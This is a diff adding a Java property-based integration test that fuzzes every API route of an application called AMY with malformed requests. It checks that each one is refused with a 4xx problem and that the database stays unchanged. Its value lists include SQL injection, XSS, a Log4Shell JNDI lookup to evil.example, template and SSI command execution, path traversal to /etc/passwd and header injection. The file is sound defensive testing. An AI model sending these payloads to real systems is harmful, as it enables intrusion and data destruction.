@@ -1,0 +1,442 @@
+package org.carpentries.amy.api.hostile;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.Base64;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.Set;
+import java.util.TreeMap;
+import java.util.concurrent.atomic.AtomicReference;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
+import net.jqwik.api.Combinators;
+import net.jqwik.api.RandomGenerator;
+import org.carpentries.amy.support.AmyIT;
+import org.carpentries.amy.support.Api;
+import org.carpentries.amy.support.RawHttp;
+import net.jqwik.api.AfterFailureMode;
+import net.jqwik.api.EdgeCasesMode;
+import net.jqwik.api.ForAll;
+import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
+import net.jqwik.api.ShrinkingMode;
+import net.jqwik.api.lifecycle.AfterProperty;
+import net.jqwik.api.lifecycle.BeforeProperty;
+import org.springframework.test.context.TestContextManager;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.beans.factory.annotation.Qualifier;
+import org.springframework.web.bind.annotation.RequestBody;
+import org.springframework.web.bind.annotation.RequestMethod;
+import org.springframework.web.method.HandlerMethod;
+import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
+import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
+
+/**
+ * Sends thousands of malformed requests, generated with jqwik's arbitraries from a fixed seed and a corpus of known
+ * attacks, to every route of AMY's running application (from Spring's handler mappings), as the admin and
+ * anonymously. Every request carries at least one value AMY must refuse wherever the route could change something;
+ * each answer must be a 4xx problem with a {@code code}, and every table of the event store and the read models must
+ * be byte-identical before and after.
+ */
+class HostileInputIT extends AmyIT {
+
+    /** Requests in all: with about 110 routes and two callers, some 40 for each. */
+    private static final int TRIES = 10_000;
+    private static final byte[] ADMIN_AUTHORIZATION = ("Basic " + Base64.getEncoder().encodeToString((Api.ADMIN + ":"
+            + Api.ADMIN_PASSWORD).getBytes(StandardCharsets.UTF_8))).getBytes(StandardCharsets.ISO_8859_1);
+    /**
+     * Tables that may change without any write: none today. token_entry is compared without its claim columns
+     * (owner, timestamp), which the processors renew on their own; spring_session* (sessions) is left out by name.
+     */
+    private static final Set<String> EXCLUDED = Set.of();
+
+    @Autowired
+    @Qualifier("requestMappingHandlerMapping")
+    RequestMappingHandlerMapping mappings;
+
+    record Route(String method, String pattern, List<String> vars, boolean readsBody) {
+        boolean safe() {
+            return method.equals("GET") || method.equals("HEAD");
+        }
+    }
+
+    /** One request under construction: the path's variables, query pairs, headers and body. */
+    static final class Request {
+        final Map<String, String> vars = new LinkedHashMap<>();
+        final List<String> query = new ArrayList<>();
+        final Map<String, byte[]> headers = new LinkedHashMap<>();
+        byte[] body;
+        String contentType;
+        final List<String> kinds = new ArrayList<>();
+    }
+
+    interface Mutation {
+        void apply(Request request, Random random);
+    }
+
+    // ---- the values: corpora and generated ones ----
+
+    private static final List<Character> UNSAFE = unsafeCharacters();
+    private static final Arbitrary<String> LETTERS = Arbitraries.strings()
+            .withChars("abcxyzÉéßøжЖשלוםمرحبا中文ひらがな한국어ñç ").ofMinLength(0).ofMaxLength(12);
+    /** Text of any script with one control or direction character somewhere in it. */
+    private static final Arbitrary<String> TAINTED = Combinators.combine(LETTERS, Arbitraries.of(UNSAFE), LETTERS)
+            .as((a, c, b) -> a + c + b);
+    private static final Arbitrary<String> SQL = Arbitraries.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
+            "1; DELETE FROM token_entry", "\" OR \"\"=\"", "admin'--", "1 UNION SELECT password_hash FROM account",
+            "'); TRUNCATE snapshot_event_entry; --", "x' AND pg_sleep(5)--", "$$; COPY x TO PROGRAM 'id'; $$");
+    private static final Arbitrary<String> SCRIPT = Arbitraries.of("<script>alert(1)</script>",
+            "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://evil.example/x}",
+            "%s%s%s%n", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "<!--#exec cmd=\"id\"-->");
+    /** Path segments, already encoded as they go on the wire; Spring's firewall or AMY's filter refuses each. */
+    private static final Arbitrary<String> TRAVERSAL = Arbitraries.of("..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc",
+            "%2e%2e", "x%00", "%00", "..%5C..%5Cwindows", "x%2Fy", "..;", "x;jsessionid=1", "%252e%252e%252f",
+            "x%0Ay", "x%7Fy", "%E2%80%AEgpj.exe", "%C2%85", "%0D%0ASet-Cookie:%20x=1", "x%09%1B%5B31m");
+    private static final Arbitrary<String> BAD_DATE = Arbitraries.of("2024-02-30", "2024-13-01", "99999-01-01",
+            "2024-01-01T00:00:00+25:00", "2024-01-01T24:61:00Z", "2024-1-1", "0000-00-00", "-1000000000-01-01",
+            "2024-02-29T00:00:00[Europe/Atlantis]", "yesterday", "2024-01-01T00:00:00+99:99", "+999999999-12-31",
+            // Syntactically fine but beyond PostgreSQL's timestamps: these answered 500 before Instants refused them.
+            "-290000-01-01T00:00:00Z", "+999999-12-31T23:59:59Z", "-999999-01-01T00:00:00Z", "+10000-01-01T00:00:00Z");
+    private static final Arbitrary<String> BAD_NUMBER = Arbitraries.of("1e400", "-1e400", "1180591620717411303424",
+            "NaN", "Infinity", "-0x1", "0x10", "١٢٣", "9".repeat(120), "1.5", "-2147483649", " 1", "1_000");
+    /** Parameter names several routes know, which take a single number, date or instant. */
+    private static final Arbitrary<String> KNOWN = Arbitraries.of("page", "page_size", "as_of", "from", "to", "since",
+            "until", "start", "end", "before", "after");
+    private static final Arbitrary<String> UNKNOWN = Arbitraries.oneOf(
+            Arbitraries.of("q'", "<x>", "__proto__", "password", "1=1", "where", "order_by", "sort", "debug", "admin"),
+            Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(8).map(s -> "zz_" + s));
+    private static final Arbitrary<String> FIELD = Arbitraries.of("id", "name", "slug", "email", "notes", "title",
+            "start", "end", "tags", "person_a", "strategy", "dry_run", "as_of", "latitude", "sequence_id");
+    private static final Arbitrary<String> BROKEN_JSON = Arbitraries.of("{", "{\"a\":}", "{'a':1}", "{\"a\":1,}",
+            "{\"a\" 1}", "[1,2", "{\"a\":\"\\x\"}", "{\"a\":\"unterminated", "{\"a\":tru}", "{\"a\":01}",
+            "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":--1}", "}{", "{\"a\":1}}", "{\"a\":\"\\uZZZZ\"}", "\u0000",
+            "{\"name\":\"a\"\u0001}", "{/* comment */}", "{\"a\":1e}", "\uFEFF{\"a\":");
+
+    private static List<Character> unsafeCharacters() {
+        List<Character> chars = new ArrayList<>();
+        for (char c = 0; c < 0x20; c++) {
+            if (c != '\t' && c != '\n' && c != '\r') {
+                chars.add(c);
+            }
+        }
+        for (char c = 0x7F; c <= 0x9F; c++) {
+            chars.add(c);
+        }
+        for (char c = 0x202A; c <= 0x202E; c++) {
+            chars.add(c);
+        }
+        for (char c = 0x2066; c <= 0x2069; c++) {
+            chars.add(c);
+        }
+        return chars;
+    }
+
+    private static <T> T draw(Arbitrary<T> arbitrary, Random random) {
+        RandomGenerator<T> generator = arbitrary.generator(100);
+        return generator.next(random).value();
+    }
+
+    private static String enc(String s) {
+        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
+    }
+
+    private static String jsonString(String s) {
+        StringBuilder out = new StringBuilder("\"");
+        for (char c : s.toCharArray()) {
+            if (c == '"' || c == '\\') {
+                out.append('\\').append(c);
+            } else if (c < 0x20 || c >= 0x7F) {
+                out.append(String.format("\\u%04x", (int) c));
+            } else {
+                out.append(c);
+            }
+        }
+        return out.append('"').toString();
+    }
+
+    private static void json(Request r, String kind, String body) {
+        r.kinds.add(kind);
+        r.body = body.getBytes(StandardCharsets.UTF_8);
+        r.contentType = "application/json";
+    }
+
+    // ---- mutations that AMY must refuse on any route (guaranteed) ----
+
+    private static final List<Mutation> QUERY_AND_HEADER = List.of(
+            (r, rnd) -> {
+                r.kinds.add("query-unknown");
+                r.query.add(enc(draw(UNKNOWN, rnd)) + "=" + enc(draw(Arbitraries.oneOf(SQL, SCRIPT, LETTERS), rnd)));
+            },
+            (r, rnd) -> {
+                r.kinds.add("query-control");
+                r.query.add(enc(draw(Arbitraries.oneOf(KNOWN, UNKNOWN), rnd)) + "=" + enc(draw(TAINTED, rnd)));
+            },
+            (r, rnd) -> {
+                r.kinds.add("query-bad-value");
+                r.query.add(enc(draw(KNOWN, rnd)) + "=" + enc(draw(Arbitraries.oneOf(BAD_DATE, BAD_NUMBER), rnd)));
+            },
+            (r, rnd) -> {
+                r.kinds.add("query-repeated");
+                String name = draw(KNOWN, rnd);
+                r.query.add(name + "=1");
+                r.query.add(name + "=" + enc(draw(Arbitraries.of("2", "2016-04-06T17:05:00Z", "2016-04-06"), rnd)));
+            },
+            (r, rnd) -> {
+                r.kinds.add("header-control");
+                String header = draw(Arbitraries.of("X-Change-Reason", "If-Match", "If-None-Match", "Accept",
+                        "X-Request-Id"), rnd);
+                String value = draw(TAINTED, rnd);
+                // Raw bytes where HTTP allows them (UTF-8 of C1 and direction characters), RFC 8187 otherwise.
+                r.headers.put(header, value.chars().anyMatch(c -> c < 0x20 || c == 0x7F)
+                        ? ("X-Change-Reason".equals(header) ? "UTF-8''" + enc(value) : "\"" + enc(value) + "\"")
+                        .getBytes(StandardCharsets.ISO_8859_1) : value.getBytes(StandardCharsets.UTF_8));
+                if (!"X-Change-Reason".equals(header) && value.chars().anyMatch(c -> c < 0x20 || c == 0x7F)) {
+                    // C0 and DEL cannot travel in a header line; this one carries a C1 character instead.
+                    r.headers.put(header, ("a" + (char) 0xC2 + (char) 0x85 + "b").getBytes(StandardCharsets.ISO_8859_1));
+                    r.headers.put("X-Change-Reason", ("UTF-8''" + enc(value)).getBytes(StandardCharsets.ISO_8859_1));
+                }
+            });
+
+    private static final List<Mutation> PATH = List.of(
+            (r, rnd) -> {
+                r.kinds.add("path-traversal");
+                String var = draw(Arbitraries.of(List.copyOf(r.vars.keySet())), rnd);
+                r.vars.put(var, draw(TRAVERSAL, rnd));
+            },
+            (r, rnd) -> {
+                r.kinds.add("path-control");
+                String var = draw(Arbitraries.of(List.copyOf(r.vars.keySet())), rnd);
+                r.vars.put(var, enc(draw(TAINTED, rnd)));
+            });
+
+    private static final List<Mutation> BODY = List.of(
+            (r, rnd) -> json(r, "body-broken", draw(BROKEN_JSON, rnd)),
+            (r, rnd) -> {
+                int depth = draw(Arbitraries.integers().between(33, 5000), rnd);
+                boolean arrays = rnd.nextBoolean();
+                json(r, "body-deep", arrays ? "[".repeat(depth) + "]".repeat(depth)
+                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
+            },
+            (r, rnd) -> {
+                String field = draw(FIELD, rnd);
+                json(r, "body-duplicate-key", "{" + jsonString(field) + ":\"a\"," + jsonString(field) + ":\"b\"}");
+            },
+            (r, rnd) -> json(r, "body-control", "{" + jsonString(draw(FIELD, rnd)) + ":"
+                    + jsonString(draw(TAINTED, rnd)) + "}"),
+            (r, rnd) -> json(r, "body-control-key", "{" + jsonString(draw(TAINTED, rnd)) + ":1}"),
+            (r, rnd) -> json(r, "body-overlong", "{" + jsonString(draw(FIELD, rnd)) + ":\""
+                    + "a".repeat(100_001 + rnd.nextInt(1000)) + "\"}"),
+            (r, rnd) -> json(r, "body-long-number", "{" + jsonString(draw(FIELD, rnd)) + ":1"
+                    + "0".repeat(101 + rnd.nextInt(500)) + "}"),
+            (r, rnd) -> json(r, "body-huge-number", "{" + jsonString(draw(FIELD, rnd)) + ":"
+                    + draw(Arbitraries.of("1e400", "-1e400", "1.7976931348623159e308"), rnd) + "}"),
+            (r, rnd) -> json(r, "body-top-level", draw(Arbitraries.of("[]", "\"text\"", "42", "true",
+                    "[{\"name\":\"x\"}]", "-0", "\"' OR 1=1\""), rnd)),
+            (r, rnd) -> {
+                r.kinds.add("body-content-type");
+                r.contentType = draw(Arbitraries.of("text/plain", "application/xml", "text/html",
+                        "application/octet-stream", "multipart/form-data; boundary=x"), rnd);
+                r.body = "{\"name\":\"x\"}".getBytes(StandardCharsets.UTF_8);
+            });
+
+    // ---- mutations that are hostile but that some routes may take as a value (never alone on a write) ----
+
+    private static final List<Mutation> SOFT = List.of(
+            (r, rnd) -> {
+                if (!r.vars.isEmpty()) {
+                    r.kinds.add("path-injection");
+                    String var = draw(Arbitraries.of(List.copyOf(r.vars.keySet())), rnd);
+                    r.vars.put(var, enc(draw(Arbitraries.oneOf(SQL, SCRIPT, BAD_DATE, BAD_NUMBER), rnd)));
+                }
+            },
+            (r, rnd) -> {
+                if (r.body == null) {
+                    r.kinds.add("body-wrong-types");
+                    r.body = ("{" + jsonString(draw(FIELD, rnd)) + ":" + draw(Arbitraries.of("[]", "{}", "true",
+                            "1180591620717411303424", "-0", "\"NaN\"", "\"2024-02-30\"", "\"1e400\"",
+                            jsonString("<script>alert(1)</script>")), rnd) + "}").getBytes(StandardCharsets.UTF_8);
+                    r.contentType = "application/json";
+                }
+            });
+
+    private Map<String, String> before;
+    private long eventsBefore;
+    private final Map<Integer, Integer> byStatus = new TreeMap<>();
+    private final Map<String, Integer> byCode = new TreeMap<>();
+    private final Map<String, Integer> byKind = new TreeMap<>();
+    private final Set<String> reached = new java.util.TreeSet<>();
+    private final List<String> wrong = new ArrayList<>();
+    private int tried;
+    private long start;
+    private static List<Route> routes;
+
+    /** jqwik runs this class, not JUnit Jupiter: Spring's test context (the one AmyIT shares) is joined by hand. */
+    @BeforeProperty
+    void joinTheApplication() throws Exception {
+        new TestContextManager(getClass()).prepareTestInstance(this);
+        routes = routes();
+        before = settledFingerprint();
+        eventsBefore = eventCount();
+        start = System.nanoTime();
+    }
+
+    @Provide
+    Arbitrary<Route> everyRoute() {
+        return Arbitraries.of(routes);
+    }
+
+    @Property(tries = TRIES, seed = "20160406", shrinking = ShrinkingMode.OFF, edgeCases = EdgeCasesMode.NONE,
+            afterFailure = AfterFailureMode.SAMPLE_FIRST)
+    void malformedRequestsAreRefusedWithProblems(@ForAll("everyRoute") Route route, @ForAll boolean asAdmin,
+                                                 @ForAll long seed) {
+        Random random = new Random(seed);
+        Request request = generate(route, random);
+        if (asAdmin) {
+            request.headers.put("Authorization", ADMIN_AUTHORIZATION);
+        }
+        String path = path(route, request);
+        RawHttp.Response response;
+        try {
+            response = new RawHttp(port).send(route.method(), path, headers(request), request.body);
+        } catch (RuntimeException e) {
+            wrong.add(route.method() + " " + path + " " + request.kinds + ": no answer: " + e);
+            return;
+        }
+        tried++;
+        reached.add((asAdmin ? "admin " : "anonymous ") + route.method() + " " + route.pattern());
+        byStatus.merge(response.status(), 1, Integer::sum);
+        request.kinds.forEach(k -> byKind.merge(k, 1, Integer::sum));
+        String code = response.code();
+        byCode.merge(String.valueOf(code), 1, Integer::sum);
+        if (response.status() < 400 || response.status() >= 500
+                || !response.contentType().startsWith("application/problem+json") || code == null) {
+            wrong.add((asAdmin ? "admin " : "anonymous ") + route.method() + " " + path + " " + request.kinds
+                    + " -> " + response);
+        }
+    }
+
+    @AfterProperty
+    void nothingChangedAndEveryRouteWasReached() {
+        long seconds = Duration.ofNanos(System.nanoTime() - start).toSeconds();
+        System.out.printf("HostileInputIT: %d requests to %d routes in %d s%n  by status: %s%n  by code: %s%n"
+                + "  by kind: %s%n", tried, routes.size(), seconds, byStatus, byCode, byKind);
+        wrong.stream().limit(200).forEach(w -> System.out.println("  WRONG " + w));
+        assertThat(wrong.subList(0, Math.min(wrong.size(), 60)))
+                .as("requests not refused with a 4xx problem (%d in all, the first ones shown)", wrong.size()).isEmpty();
+        assertThat(tried).isEqualTo(TRIES);
+        assertThat(reached).as("every route, as admin and anonymously").hasSize(routes.size() * 2);
+        assertThat(eventCount()).isEqualTo(eventsBefore);
+        assertThat(settledFingerprint()).isEqualTo(before);
+    }
+
+    private Request generate(Route route, Random random) {
+        Request r = new Request();
+        route.vars().forEach(v -> r.vars.put(v, "x"));
+        if (!route.safe()) {
+            r.headers.put("If-Match", "\"0\"".getBytes(StandardCharsets.ISO_8859_1));
+        }
+        List<Mutation> sure = new ArrayList<>(QUERY_AND_HEADER);
+        if (!route.vars().isEmpty()) {
+            sure.addAll(PATH);
+        }
+        if (route.readsBody()) {
+            // Bodies are where most of the malformations are: give them most of the draws.
+            sure.addAll(BODY);
+            sure.addAll(BODY);
+        }
+        if (route.safe() && !route.vars().isEmpty() && random.nextInt(4) == 0) {
+            // A read changes nothing whatever it is sent: an injection in a path alone must still be refused.
+            SOFT.get(0).apply(r, random);
+        } else {
+            sure.get(random.nextInt(sure.size())).apply(r, random);
+        }
+        int extras = random.nextInt(3);
+        for (int i = 0; i < extras; i++) {
+            List<Mutation> any = new ArrayList<>(sure);
+            any.addAll(SOFT);
+            any.get(random.nextInt(any.size())).apply(r, random);
+        }
+        return r;
+    }
+
+    private static String path(Route route, Request r) {
+        Matcher m = Pattern.compile("\\{([^}:]+)(:[^}]*)?}").matcher(route.pattern());
+        StringBuilder out = new StringBuilder();
+        while (m.find()) {
+            m.appendReplacement(out, Matcher.quoteReplacement(r.vars.get(m.group(1))));
+        }
+        m.appendTail(out);
+        return r.query.isEmpty() ? out.toString() : out + "?" + String.join("&", r.query);
+    }
+
+    private static Map<String, byte[]> headers(Request r) {
+        Map<String, byte[]> headers = new LinkedHashMap<>(r.headers);
+        if (r.contentType != null) {
+            headers.put("Content-Type", r.contentType.getBytes(StandardCharsets.ISO_8859_1));
+        }
+        return headers;
+    }
+
+    private List<Route> routes() {
+        List<Route> routes = new ArrayList<>();
+        mappings.getHandlerMethods().forEach((RequestMappingInfo info, HandlerMethod handler) -> {
+            if (!handler.getBeanType().getName().startsWith("org.carpentries.amy.")) {
+                return;
+            }
+            boolean body = java.util.Arrays.stream(handler.getMethodParameters())
+                    .anyMatch(p -> p.hasParameterAnnotation(RequestBody.class));
+            Set<RequestMethod> methods = info.getMethodsCondition().getMethods();
+            for (String pattern : info.getPatternValues()) {
+                if (!pattern.startsWith("/api/")) {
+                    continue;
+                }
+                List<String> vars = new ArrayList<>();
+                Matcher m = Pattern.compile("\\{([^}:]+)(:[^}]*)?}").matcher(pattern);
+                while (m.find()) {
+                    vars.add(m.group(1));
+                }
+                for (RequestMethod method : methods.isEmpty() ? Set.of(RequestMethod.GET) : methods) {
+                    routes.add(new Route(method.name(), pattern, vars, body));
+                }
+            }
+        });
+        routes.sort(java.util.Comparator.comparing(r -> r.method() + " " + r.pattern()));
+        return routes;
+    }
+
+    /** The fingerprint once the processors have finished what earlier tests left them: equal twice in a row. */
+    private Map<String, String> settledFingerprint() {
+        AtomicReference<Map<String, String>> last = new AtomicReference<>(Map.of());
+        await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500)).until(() -> {
+            Map<String, String> now = fingerprint();
+            return now.equals(last.getAndSet(now));
+        });
+        return last.get();
+    }
+
+    /** Per table of schema public: its row count and the MD5 of its rows as text, in order. */
+    private Map<String, String> fingerprint() {
+        Map<String, String> prints = new TreeMap<>();
+        for (String table : jdbc.queryForList("SELECT table_name FROM information_schema.tables WHERE table_schema = "
+                + "'public' AND table_type = 'BASE TABLE' ORDER BY 1", String.class)) {
+            if (EXCLUDED.contains(table) || table.toLowerCase(java.util.Locale.ROOT).startsWith("spring_session")) {
+                continue;
+            }
+            String rows = table.equals("token_entry") ? "SELECT processor_name, segment, token FROM token_entry"
+                    : "SELECT * FROM \"" + table + "\"";
+            prints.put(table, jdbc.queryForObject("SELECT count(*) || ':' || coalesce(md5(string_agg(r::text, "
+                    + "E'\\n' ORDER BY r::text)), '') FROM (" + rows + ") r", String.class));
+        }
+        return prints;
+    }
+}
